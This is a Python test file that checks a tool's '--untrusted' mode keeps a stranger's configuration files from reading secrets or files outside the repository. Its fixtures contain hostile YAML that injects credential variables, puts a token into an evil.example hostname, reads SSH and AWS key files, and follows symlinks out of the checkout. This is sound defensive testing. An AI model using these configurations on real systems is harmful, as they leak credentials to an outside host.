"""`--untrusted`: a stranger's files are data. What Python does while they are read is written down."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from kit.leaves import all_leaves, valid, written
from kit.support import fork_server
from typer.testing import CliRunner

import orch
from orch.cli.verbs import app
from orch.spec.diagnostics import render_json
from orch.spec.loader.load import load_paths
from orch.spec.loader.untrusted import Fence
from orch.spec.models.fields import json_schema
from orch.spec.models.fields.parsing import reads_of

WATCHED = Path(__file__).parent / "watched.py"
SECRETS = {
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMIK7MDENGbPxRfiCY",
    "GITHUB_TOKEN": "ghp_qzxwvJKQvbxz0123456789",
}

HOSTILE = {
    "fleet.yml": """\
type: fleet
name: lab
spot_policy: ${{ env.AWS_SECRET_ACCESS_KEY }}
env: [AWS_SECRET_ACCESS_KEY, "TOKEN=${{ env.GITHUB_TOKEN }}"]
init:
  - {file: ~/.aws/credentials}
  - {file: linked-script.sh}
  - {file: linked-folder/script.sh}
ssh_config:
  identity_file: HOME/.ssh/id_rsa
  proxy_jump: {hostname: login.evil.example, identity_file: ../outside/key}
  hosts: ["${{ env.GITHUB_TOKEN }}.evil.example", "gpu[1-4].evil.example"]
""",
    "task.yml": """\
type: task
name: train
image: x
env: [GITHUB_TOKEN]
files: [~/.ssh/id_rsa, linked-folder, ../outside/secret.yml, there/../.git/config]
commands: ["echo ${{ env.GITHUB_TOKEN }}"]
""",
    "orch.yml": """\
state: s3://bucket?endpoint=evil.example
ledger: postgresql://evil.example/runs
backends:
  - {type: aws, endpoint_url: "https://evil.example", creds: {type: default, profile: runs-commands}}
project: hostile
""",
}
HARMLESS = {
    "local": "type: fleet\nname: lab\nbackend: local\nnodes: 2\nresources: {cpu: 1, memory: 2GB}\n",
    "ssh": "type: fleet\nname: lab\nssh_config:\n  user: me\n  identity_file: keys/id\n"
    "  proxy_jump: {hostname: login.evil.example}\n  hosts: ['gpu[1-4].evil.example']\n",
    "aws": "type: fleet\nname: lab\nbackends: [aws]\nnodes: 2\nplacement: cluster\nregions: [us-east-1]\n"
    "resources: {gpu: 'H100:8'}\nreservation: cr-0123456789abcdef0\nnetwork: {vpc: vpc-1}\n"
    "init: [{file: setup.sh}]\n",
    "gcp": "type: fleet\nname: lab\nbackends: [gcp]\nnodes: 2\nplacement: cluster\nzones: [us-central1-a]\n"
    "resources: {gpu: 'H100:8'}\nnetwork: {name: shared}\n",
}


@dataclass(frozen=True)
class Repository:
    """A checkout with links that lead out of it, beside a folder that holds what must stay unseen."""

    root: Path
    outside: Path
    home: Path

    def write(self, files: dict[str, str]) -> None:
        for name, text in files.items():
            (self.root / name).write_text(text.replace("HOME", str(self.home)))


@pytest.fixture
def repository(tmp_path: Path) -> Repository:
    root, outside, home = tmp_path / "checkout", tmp_path / "outside", tmp_path / "home"
    for folder in (root / ".git", root / "keys", outside, home / ".ssh", home / ".aws"):
        folder.mkdir(parents=True)
    (root / ".git" / "config").write_text("extraheader = AUTHORIZATION: basic ghp\n")
    (root / "keys" / "id").write_text("key\n")
    (root / "setup.sh").write_text("true\n")
    for name in ("secret.yml", "key", "script.sh"):
        (outside / name).write_text("type: fleet\npassword: canary-of-a-file\n")
    (home / ".ssh" / "id_rsa").write_text("canary-of-a-file\n")
    (home / ".ssh" / "config").write_text("Host *\n  ProxyCommand touch /tmp/never\n")
    (home / ".aws" / "credentials").write_text("canary-of-a-file\n")
    (root / "linked-script.sh").symlink_to(outside / "script.sh")
    (root / "linked-folder").symlink_to("../outside")
    (root / "linked.yml").symlink_to(outside / "secret.yml")
    return Repository(root, outside, home)


def watched(repository: Repository, *words: str, anew: bool = False) -> tuple[dict[str, Any], str]:
    """What `orch` did, and all that it said. `anew`: in an interpreter of its own, whose imports are watched
    too."""
    target = repository.root.parent / "watched.json"
    target.unlink(missing_ok=True)
    environment = {**os.environ, **SECRETS, "HOME": str(repository.home)}
    command = [str(WATCHED), str(target), *words]
    if anew:
        done = subprocess.run(
            [sys.executable, *command],
            cwd=repository.root,
            env=environment,
            capture_output=True,
            text=True,
            check=False,
        )
        said = done.stdout + done.stderr
    else:
        _, out, err = fork_server().call(command, repository.root, environment, code=WATCHED.read_text())
        said = out + err
    assert target.exists(), said
    return json.loads(target.read_text()), said


def check_innocent(repository: Repository, found: dict[str, Any], said: str) -> None:
    """No socket, no process, no look at the outside, no secret of the environment or of a file."""
    assert found["done"] == []
    assert not set(SECRETS) & set(found["variables"])
    home, outside = str(repository.home), str(repository.outside)
    # Newer prices that the user fetched; the user's own settings of a library.
    known = (f"{home}/.local/share/orch", f"{home}/.local/etc/clustershell", f"{home}/.config/clustershell")
    looked_at = [*found["opened"], *found["looked_at"]]
    assert [
        each for each in looked_at if each.startswith((home, outside)) and not each.startswith(known)
    ] == []
    folders = {sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), *orch.__path__, *sys.path[1:]}
    own = (*folders, *map(os.path.realpath, folders), str(WATCHED.parent), str(repository.root))
    shared = ("/dev/null", "/usr/share/zoneinfo", "/etc/localtime", "/etc/clustershell")
    report = str(repository.root.parent / "watched.json")
    others = [each for each in found["opened"] if os.path.isabs(each) and each != report]
    assert [each for each in others if not each.startswith((*own, *known, *shared))] == []
    assert not list(repository.root.rglob(".orch"))
    assert not [value for value in (*SECRETS.values(), "canary-of-a-file") if value in said]


@pytest.mark.parametrize("format", ["human", "json", "github", "sarif"])
def test_validate_reads_nothing_but_the_repository(repository: Repository, format: str) -> None:
    repository.write(HOSTILE)
    words = ("validate", ".", "--untrusted", "--format", format)
    found, said = watched(repository, *words, anew=format == "human")
    check_innocent(repository, found, said)
    assert found["code"] == 3


@pytest.mark.parametrize("anew", [True, False])
def test_what_a_trusted_file_makes_it_do_is_seen(repository: Repository, anew: bool) -> None:
    repository.write(HOSTILE)
    found, said = watched(repository, "validate", str(repository.outside), "task.yml", "fleet.yml", anew=anew)
    assert found["code"] == 3, said
    assert set(SECRETS) <= set(found["variables"])
    assert str(repository.outside / "secret.yml") in found["opened"]
    assert str(repository.outside) in found["looked_at"]


def test_each_refused_use_is_a_finding_at_its_line(repository: Repository) -> None:
    repository.write(HOSTILE)
    said = CliRunner().invoke(app, ["validate", str(repository.root), "--untrusted", "--format", "json"])
    told = [
        (Path(each["file"]).name, each["line"], each["code"])
        for each in json.loads(said.stdout)["diagnostics"]
        if each["code"] in ("ORCH176", "ORCH177", "ORCH178")
    ]
    assert told == [
        *[("fleet.yml", line, "ORCH176") for line in (3, 4, 4)],
        *[("fleet.yml", line, "ORCH177") for line in (6, 7, 8, 10, 11)],
        ("fleet.yml", 12, "ORCH176"),
        ("linked.yml", 1, "ORCH177"),
        *[("orch.yml", line, "ORCH178") for line in (1, 2, 4, 4)],
        ("task.yml", 4, "ORCH176"),
        *[("task.yml", 5, "ORCH177") for _ in range(4)],
        ("task.yml", 6, "ORCH176"),
    ]


@pytest.mark.parametrize("backend", HARMLESS)
def test_preview_of_a_fleet_asks_nobody_and_starts_nothing(repository: Repository, backend: str) -> None:
    repository.write({"fleet.yml": HARMLESS[backend], "orch.yml": HOSTILE["orch.yml"]})
    found, said = watched(repository, "preview", "fleet.yml", "--untrusted", anew=True)
    check_innocent(repository, found, said)
    assert found["code"] == 0, said
    assert "not looked at: the state" in said
    assert f"nodes on {backend}" in said


def test_preview_of_a_hostile_fleet_stops_at_its_findings(repository: Repository) -> None:
    repository.write(HOSTILE)
    found, said = watched(repository, "preview", "fleet.yml", "--untrusted")
    check_innocent(repository, found, said)
    assert found["code"] == 3
    assert said.count("ORCH176") + said.count("ORCH177") == 9


def test_a_preview_tells_what_the_catalogue_alone_knows(repository: Repository) -> None:
    fleet = HARMLESS["aws"].replace("reservation: cr-0123456789abcdef0\n", "")
    cases = {
        fleet.replace("us-east-1", "us-eest-1"): (3, "ORCH200"),
        fleet + "instance_types: [p5.48xlrge]\n": (3, "ORCH202"),
        fleet + "budget: {hourly: 10}\n": (4, "ORCH281"),
        fleet + "partitions: [a]\n": (3, "ORCH118"),
        fleet.replace("setup.sh", "gone.sh"): (3, "ORCH129"),
        HARMLESS["local"].replace("nodes: 2", "nodes: 500"): (3, "ORCH212"),
        HARMLESS["local"].replace("cpu: 1", "gpu: 1"): (3, "ORCH211"),
    }
    for text, (code, told) in cases.items():
        repository.write({"fleet.yml": text})
        said = CliRunner().invoke(app, ["preview", str(repository.root / "fleet.yml"), "--untrusted"])
        error: Any = said.exception
        assert (int(error.exit_code), told in error.text()) == (code, True), (text, error)


def test_a_preview_as_json_says_what_it_did_not_look_at(repository: Repository) -> None:
    repository.write({"fleet.yml": HARMLESS["aws"]})
    said = CliRunner().invoke(app, ["preview", str(repository.root / "fleet.yml"), "--untrusted", "--json"])
    found = json.loads(said.stdout)
    assert (found["schema"], found["fleet"], found["nodes"], found["changes"]) == (1, "lab", 2, None)
    assert found["cost"]["hourly"] > 100
    assert any("cr-0123456789abcdef0" in each for each in found["not_looked_at"])


def test_a_preview_as_markdown_is_a_comment_of_all_that_was_found(repository: Repository) -> None:
    repository.write({**HOSTILE, "good.yml": GOOD, "dear.yml": DEAR})
    found, said = watched(repository, "preview", ".", "--untrusted", "--markdown")
    check_innocent(repository, found, said)
    assert found["code"] == 3, said
    first, verdict, *rest = said[said.index("<!-- orch:plan") :].splitlines()
    assert first == "<!-- orch:plan v1 fork path=. -->"
    assert verdict.startswith("### ⛔ ")
    text = "\n".join(rest)
    assert "There is no plan: no cloud was asked, and no secret was there." in text
    assert "| fleet good | aws | 2 | &#36;" in text
    for code in ("ORCH176", "ORCH177", "ORCH178", "ORCH281"):
        assert code in text, code
    # With an `orch.yml` that cannot be used, nobody knows where the fleets would go.
    repository.write({"orch.yml": "states: s3://bucket\n"})
    for path in (".", "good.yml"):
        found, said = watched(repository, "preview", path, "--untrusted", "--markdown")
        check_innocent(repository, found, said)
        assert (found["code"], "states" in said, "**Fleets**" in said) == (3, True, False), said
    (repository.root / "orch.yml").unlink()
    repository.write({"fleet.yml": HARMLESS["aws"]})
    file = str(repository.root / "fleet.yml")
    out = repository.root / "comment.md"
    words = ["preview", file, "--untrusted", "--markdown", "--out", str(out)]
    assert CliRunner().invoke(app, words).exit_code == 0
    assert "### ✅ nothing is wrong" in out.read_text()


GOOD = HARMLESS["aws"].replace("name: lab", "name: good")
DEAR = HARMLESS["aws"].replace("name: lab", "name: dear") + "budget: {hourly: 10}\n"


@pytest.mark.parametrize(
    "more",
    [["--html"], ["--review", "there"], ["--out", "plan.json"], ["--markdown", "--out", "a", "--out", "b"]],
)
def test_there_is_no_plan_to_save_or_to_show_of_a_strangers_file(
    repository: Repository, more: list[str]
) -> None:
    repository.write({"fleet.yml": HARMLESS["aws"]})
    words = ["preview", str(repository.root / "fleet.yml"), "--untrusted", *more]
    assert CliRunner().invoke(app, words).exit_code == 2


@pytest.mark.parametrize("more", [["--exit-code"], ["--rehearse"]])
def test_what_would_look_at_the_state_does_not_go_with_it(repository: Repository, more: list[str]) -> None:
    repository.write({"fleet.yml": HARMLESS["local"]})
    said = CliRunner().invoke(app, ["preview", str(repository.root / "fleet.yml"), "--untrusted", *more])
    assert said.exit_code == 2


def test_allowed_names_are_let_through_and_still_not_read(repository: Repository) -> None:
    repository.write({"task.yml": HOSTILE["task.yml"]})
    command = ["validate", "task.yml", "--untrusted", "--allow", "GITHUB_TOKEN", "--allow", "~/.ssh/id_rsa"]
    found, said = watched(repository, *command)
    check_innocent(repository, found, said)
    assert "note ORCH176" in said
    assert "error ORCH176" not in said
    assert said.count("error ORCH177") == 3
    assert CliRunner().invoke(app, ["validate", "task.yml", "--allow", "X"]).exit_code == 2


def test_every_property_that_names_the_environment_is_told(tmp_path: Path) -> None:
    leaves = all_leaves()
    for leaf in leaves:
        document = next(leaf.documents("a ${{ env.TOKEN }}"))
        found = load_paths(
            [written(tmp_path, leaf, document)], environ={"TOKEN": "qzxwv"}, untrusted=()
        ).diagnostics
        assert [each for each in found if each.code == "ORCH176" and "TOKEN" in each.summary], str(leaf)
        assert "qzxwv" not in render_json(found)
    assert len(leaves) > 700


def test_every_path_on_this_machine_is_kept_inside(tmp_path: Path) -> None:
    """Such a property takes `~/x`; paths in containers and on nodes are absolute."""
    kept = 0
    for leaf in all_leaves():
        last = leaf.steps[-1]
        reads = reads_of(last.owner.model_fields[last.name])
        if reads is None or reads.form is not json_schema.PATH or last.key == "path":
            continue  # `path`: where a copy goes in a container, whose `~` is its user's
        for _, document, _ in valid(tmp_path, leaf, ("~/.ssh/id_rsa",)):
            found = load_paths([written(tmp_path, leaf, document)], untrusted=()).diagnostics
            assert {"ORCH177", "ORCH178"} & {each.code for each in found}, str(leaf)
            kept += 1
    assert kept > 20


def test_links_are_followed_inside_only(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "a" / "b").mkdir(parents=True)
    (root / "in").symlink_to("a/b")
    (root / "a" / "up").symlink_to("../..")
    (root / "round").symlink_to("round")
    (root / "absolute").symlink_to(root / "a")
    (root / "etc").symlink_to("/etc")
    (root / "chain").symlink_to("absolute/up")
    fence = Fence(root)
    for path in (
        "a/b/file",
        "in/file",
        "absolute/b",
        "in/../file",
        "gone/file",
        "a/./b",
        ".github/x",
        "git/x",
    ):
        assert fence.holds(root / path), path
    for path in (
        "etc/passwd",
        "a/up/x",
        "chain",
        "round",
        "../x",
        "in/../../../x",
        ".git/config",
        "a/.orch/key",
        # The same files where the file system does not tell upper from lower case, or takes more names.
        ".GIT/config",
        "a/.Orch/key",
        ".g\u200cit/config",
        ".git./config",
        "GIT~1/config",
    ):
        assert not fence.holds(f"{root}/{path}"), path
    for path in ("/etc/passwd", f"{root}-other/x", str(tmp_path)):
        assert not fence.holds(path), path


SECRET = "type: task\nname: secretxx\nimage: x\nspot_policy: secretxx\n"


def check_refused(repository: Repository, *words: str) -> None:
    found, said = watched(repository, *words, "--untrusted")
    check_innocent(repository, found, said)
    assert (found["code"], "ORCH177" in said) == (3, True), said
    assert "secretxx" not in said


@pytest.mark.parametrize("planted", [True, False])
@pytest.mark.parametrize("named", ["configs/k.yml", "configs", "a/up/outside/k.yml", "./configs/../outside"])
def test_a_link_in_a_checkout_makes_nothing_else_the_repository(
    repository: Repository, named: str, planted: bool
) -> None:
    (repository.outside / "k.yml").write_text(SECRET)
    if planted:
        (repository.outside / ".git").mkdir()
        (repository.outside.parent / ".git").mkdir()
    (repository.root / "configs").symlink_to("../outside")
    (repository.root / "a" / "b").mkdir(parents=True)
    (repository.root / "a" / "up").symlink_to("b/../../..")
    for verb in ("validate", "preview"):
        check_refused(repository, verb, named)


def test_a_link_below_the_working_directory_is_a_strangers_without_a_checkout_too(
    repository: Repository,
) -> None:
    (repository.root / ".git" / "config").unlink()
    (repository.root / ".git").rmdir()
    (repository.outside / "k.yml").write_text(SECRET)
    (repository.root / "configs").symlink_to("../outside")
    for named in ("configs", "configs/k.yml"):
        check_refused(repository, "validate", named)


def test_links_that_lead_to_a_checkout_are_the_callers(
    repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    repository.write({"fleet.yml": HARMLESS["local"]})
    (repository.root / "deep").mkdir()
    (repository.root / "in").symlink_to("deep")
    (repository.root / "deep" / "fleet.yml").write_text(HARMLESS["local"])
    (repository.outside / "link").symlink_to(repository.root)
    here = repository.outside / "link"
    monkeypatch.chdir(repository.home)
    for path in (
        here / "fleet.yml",
        here / "in",
        here / "in" / "fleet.yml",
        "../checkout/fleet.yml",
    ):
        assert load_paths([path], untrusted=()).diagnostics == (), path
    monkeypatch.chdir(repository.root / "deep")
    for path in ("../fleet.yml", "../in/fleet.yml", "..", "../../checkout/fleet.yml", "fleet.yml", "."):
        assert [each.code for each in load_paths([path], untrusted=()).diagnostics] in (
            [],
            ["ORCH177"],  # linked.yml, where the whole checkout is read
        ), path


ESCAPED = """\
type: task
name: train
image: x
files: ["$${{x/../../outside/key", "$${{ env.X }}/../../../outside/key", "$${{x", "$$PWD"]
"""


def test_what_only_looks_like_a_reference_is_a_path(repository: Repository) -> None:
    repository.write({"task.yml": ESCAPED})
    found = load_paths([repository.root / "task.yml"], untrusted=()).diagnostics
    assert [each.path for each in found if each.code == "ORCH177"] == [
        f"files[{index}].local_path" for index in (0, 1)
    ]


@pytest.mark.parametrize("script", ["../outside/script.sh", "linked-script.sh", "~/.aws/credentials"])
def test_an_allowed_script_outside_is_not_read_by_a_preview(repository: Repository, script: str) -> None:
    repository.write({"fleet.yml": HARMLESS["aws"].replace("setup.sh", script)})
    (repository.outside / "script.sh").write_bytes(b"\xff canary-of-a-file")
    found, said = watched(repository, "preview", "fleet.yml", "--untrusted", "--allow", script)
    check_innocent(repository, found, said)
    assert found["code"] == 0, said
    assert f"not looked at: the script '{script}', outside the repository" in said


def test_a_script_that_is_no_small_file_is_told_and_not_read(repository: Repository) -> None:
    repository.write({"fleet.yml": HARMLESS["aws"]})
    script = repository.root / "setup.sh"
    script.write_bytes(b"#" * (1024 * 1024))
    command = ["preview", str(repository.root / "fleet.yml"), "--untrusted"]
    assert CliRunner().invoke(app, command).exit_code == 0
    script.write_bytes(b"#" * (1024 * 1024 + 1))
    assert "larger than 1 MiB" in str(told(command))
    script.unlink()
    os.mkfifo(script)
    assert "no regular file" in str(told(command))
    script.unlink()
    script.mkdir()
    assert "ORCH129" in str(told(command))


def told(command: list[str]) -> Any:
    error: Any = CliRunner().invoke(app, command).exception
    return error.text()


def test_a_pipe_with_a_name_is_no_configuration(repository: Repository) -> None:
    pipe = repository.root / "k.yml"
    os.mkfifo(pipe)
    for untrusted in (None, ()):
        (found,) = load_paths([pipe], untrusted=untrusted).diagnostics
        assert (found.code, found.summary) == ("ORCH100", "this is no regular file")
    assert "k.yml" not in render_json(load_paths([repository.root], untrusted=()).diagnostics)


def test_what_another_process_writes_is_read_from_where_the_shell_says() -> None:
    read, write = os.pipe()
    os.write(write, b"type: task\nname: train\nimage: x\n")
    os.close(write)
    try:
        assert [each.name for each in load_paths([f"/dev/fd/{read}"]).tasks] == ["train"]
    finally:
        os.close(read)
    done = subprocess.run(
        [sys.executable, "-m", "orch.cli.main", "validate", "/dev/stdin"],
        input="type: task\nname: train\nimage: x\n",
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, "1 valid document\n"), done.stderr
